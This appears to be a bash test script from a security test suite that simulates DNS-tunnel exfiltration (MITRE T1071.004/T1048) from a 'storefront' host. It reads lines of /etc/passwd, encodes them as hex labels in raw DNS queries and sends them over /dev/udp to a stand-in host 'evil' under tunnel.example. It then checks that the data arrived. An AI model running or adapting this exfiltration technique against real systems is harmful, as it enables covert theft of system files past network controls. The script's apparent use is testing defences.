#!/usr/bin/env bash
# Carries a file out of the storefront in the names of DNS queries to the attacker's machine. MITRE ATT&CK T1071.004, DNS; T1048, Exfiltration Over Alternative Protocol.
. "$(dirname "$0")/lib.sh"

# A query is a header, the name as labels with their lengths, and type A.
out=$(through_label "(head -n 3 /etc/passwd; echo $mark) | timeout 20 bash -c '
exec 3<>/dev/udp/evil/53
for piece in \$(od -An -v -tx1 | tr -d \" \\n\" | fold -w 60) 00; do
	printf -v name \"\\\\x%02x%s\" \${#piece} \$piece
	printf \"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\$name\\x06tunnel\\x07example\\0\\0\\x01\\0\\x01\" >&3
	timeout 2 dd bs=512 count=1 <&3 >/dev/null 2>&1
done'")
seen "dns from tunnel: .*root:.*$mark" || stopped "nothing arrived: $out"
worked "the attacker's DNS server put three lines of /etc/passwd together"
